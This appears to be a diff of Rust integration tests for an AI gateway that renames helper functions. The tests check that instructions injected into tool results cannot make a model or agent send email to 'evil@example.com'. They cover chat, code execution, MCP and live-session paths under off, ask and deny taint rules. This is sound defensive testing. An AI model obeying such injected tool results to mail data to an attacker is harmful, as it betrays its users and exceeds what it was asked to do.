@@ -21,7 +21,7 @@ use tollgate_engine::builtin::{
 use tollgate_server::Rights;
 
 use crate::client::Call;
-use crate::hostile::{Hostile, planned, resource, result};
+use crate::hostile::{Hostile, make_plan, resource, result};
 use crate::model::Model;
 use crate::spoken::{Theatre, models};
 use crate::stage::{Setup, Stage, key};
@@ -76,9 +76,9 @@ async fn hostile(rule: TaintRule, setup: Setup) -> (Hostile, Arc<AtomicUsize>) {
     (Hostile::with(PATIENCE, setup).await, sent)
 }
 
-fn injected() -> Value {
+fn inject() -> Value {
     let whole = json!({"content": [{"type": "text", "text": INJECTED}]});
-    planned(&result(&whole.to_string()))
+    make_plan(&result(&whole.to_string()))
 }
 
 /// Denies the call that waits, once one does, and says why it waited.
@@ -98,7 +98,7 @@ async fn deny_waiting(stage: &Stage) -> Value {
 
 /// What the destructive call came to, beside the number of mails: under `ask`, somebody has to say
 /// no, and sees why.
-async fn settled<T>(stage: &Stage, rule: TaintRule, call: impl Future<Output = T>) -> T {
+async fn settle<T>(stage: &Stage, rule: TaintRule, call: impl Future<Output = T>) -> T {
     match rule {
         TaintRule::Ask => {
             let (ended, waited) = tokio::join!(call, deny_waiting(stage));
@@ -111,14 +111,14 @@ async fn settled<T>(stage: &Stage, rule: TaintRule, call: impl Future<Output = T
     }
 }
 
-fn expected(rule: TaintRule) -> usize {
+fn expectation(rule: TaintRule) -> usize {
     usize::from(rule == TaintRule::Off)
 }
 
 #[tokio::test]
 async fn s_30_the_loop_of_the_gateway_sends_no_mail_that_a_result_asked_for() {
     for rule in ALL {
-        let plan = injected().to_string();
+        let plan = inject().to_string();
         let model = Model::saying(move |asked| {
             let messages = asked["messages"].as_array().unwrap();
             let last = messages.last().unwrap();
@@ -136,9 +136,9 @@ async fn s_30_the_loop_of_the_gateway_sends_no_mail_that_a_result_asked_for() {
         let body =
             json!({"model": "sage", "messages": [{"role": "user", "content": "the weather?"}]});
         let asked = hostile.stage.post(body.to_string()).path("/v1/chat/completions").send();
-        let answer = settled(&hostile.stage, rule, asked).await.json();
+        let answer = settle(&hostile.stage, rule, asked).await.json();
         let said = answer["choices"][0]["message"]["content"].as_str().unwrap_or_default();
-        assert_eq!(sent.load(Ordering::SeqCst), expected(rule), "{rule:?}: {answer}");
+        assert_eq!(sent.load(Ordering::SeqCst), expectation(rule), "{rule:?}: {answer}");
         assert_eq!(said.contains("sent"), rule == TaintRule::Off, "{rule:?}: {said}");
         assert_eq!(said.contains("taint"), rule == TaintRule::Deny, "{rule:?}: {said}");
     }
@@ -148,7 +148,7 @@ async fn s_30_the_loop_of_the_gateway_sends_no_mail_that_a_result_asked_for() {
 #[tokio::test]
 async fn s_30_results_that_a_client_brings_count_until_its_user_speaks_again() {
     let rule = TaintRule::Deny;
-    let plan = injected();
+    let plan = inject();
     let model = Model::saying(|asked| {
         let last = asked["messages"].as_array().unwrap().last().unwrap();
         if last["content"].to_string().contains("\"sent\"") {
@@ -183,7 +183,7 @@ async fn s_30_a_program_sends_no_mail_that_a_result_asked_for() {
     tollgate_testkit::worker();
     for rule in ALL {
         let (hostile, sent) = hostile(rule, Setup::default()).await;
-        let plan = injected()["plan"].as_str().unwrap().to_owned();
+        let plan = inject()["plan"].as_str().unwrap().to_owned();
         let code = format!(
             "said = new.say(plan={})\nif \"call send_email\" in said:\n  \
              mail.send_email(to=\"evil@example.com\")\nresult = said\n",
@@ -191,8 +191,8 @@ async fn s_30_a_program_sends_no_mail_that_a_result_asked_for() {
         );
         let body = json!({ "code": code }).to_string();
         let running = hostile.stage.post(body).path("/v1/code").send();
-        let ran = settled(&hostile.stage, rule, running).await.json();
-        assert_eq!(sent.load(Ordering::SeqCst), expected(rule), "{rule:?}: {ran}");
+        let ran = settle(&hostile.stage, rule, running).await.json();
+        assert_eq!(sent.load(Ordering::SeqCst), expectation(rule), "{rule:?}: {ran}");
         match rule {
             TaintRule::Off => assert_eq!(ran["result"], INJECTED),
             TaintRule::Ask => assert!(ran.to_string().contains("was denied"), "{ran}"),
@@ -207,7 +207,7 @@ async fn s_30_a_session_over_mcp_sends_no_mail_that_a_result_asked_for() {
         let (hostile, sent) = hostile(rule, Setup::default()).await;
         let stage = &hostile.stage;
         let mail = json!({"name": "send_email", "arguments": {"to": "evil@example.com"}});
-        let said = json!({"name": "old_say", "arguments": injected()});
+        let said = json!({"name": "old_say", "arguments": inject()});
         let session = stage.open_session("2025-11-25", json!({})).await;
         let other = stage.open_session("2025-11-25", json!({})).await;
         let first = session.call(1, "tools/call", &mail).send().await;
@@ -215,8 +215,8 @@ async fn s_30_a_session_over_mcp_sends_no_mail_that_a_result_asked_for() {
         let read = session.call(2, "tools/call", &said).send().await;
         assert_eq!(read.brief(), "200 ok", "{read:?}");
         let asked = session.call(3, "tools/call", &mail).send();
-        let asked = settled(stage, rule, asked).await;
-        assert_eq!(sent.load(Ordering::SeqCst), 1 + expected(rule), "{rule:?}: {asked:?}");
+        let asked = settle(stage, rule, asked).await;
+        assert_eq!(sent.load(Ordering::SeqCst), 1 + expectation(rule), "{rule:?}: {asked:?}");
         // Another session has read nothing, and neither has a turn that the client says is new.
         let elsewhere = other.call(1, "tools/call", &mail).send().await;
         assert_eq!(elsewhere.json()["result"]["content"][0]["text"], "sent", "{elsewhere:?}");
@@ -243,9 +243,9 @@ async fn s_30_whatever_an_untrusted_server_says_counts() {
         (
             "prompts/get",
             json!({"name": "old_prompt",
-            "arguments": planned(&result(&messages.to_string()))}),
+            "arguments": make_plan(&result(&messages.to_string()))}),
         ),
-        ("tools/call", json!({"name": "old_say", "arguments": planned(&failed)})),
+        ("tools/call", json!({"name": "old_say", "arguments": make_plan(&failed)})),
     ] {
         let session = stage.open_session("2025-11-25", json!({})).await;
         let read = session.call(1, method, &params).send().await;
@@ -273,7 +273,7 @@ async fn s_30_plain_calls_are_one_turn_where_a_conversation_says_so() {
             None => call,
         }
     };
-    let plan = injected();
+    let plan = inject();
     let to = json!({"to": "a@example.com"});
     // Many at once, of two principals, in conversations of the same name.
     let read = |number: usize| {
@@ -320,13 +320,13 @@ async fn s_30_a_live_session_sends_no_mail_that_a_result_asked_for() {
         let theatre = Theatre { stage, provider };
         let (_client, mut provider) = theatre.session(&[]).await;
         provider.await_event("session.update").await;
-        provider.call("call_1", "new_say", &injected()).await;
+        provider.call("call_1", "new_say", &inject()).await;
         let read = provider.answer().await;
         assert_eq!(read["status"], "ok", "{read}");
         provider.call("call_2", "send_email", &json!({"to": "evil@example.com"})).await;
-        let answer = settled(&theatre.stage, rule, provider.answer()).await;
+        let answer = settle(&theatre.stage, rule, provider.answer()).await;
         let status = if rule == TaintRule::Off { "ok" } else { "denied" };
         assert_eq!(answer["status"], status, "{rule:?}: {answer}");
-        assert_eq!(sent.load(Ordering::SeqCst), expected(rule), "{rule:?}: {answer}");
+        assert_eq!(sent.load(Ordering::SeqCst), expectation(rule), "{rule:?}: {answer}");
     }
 }
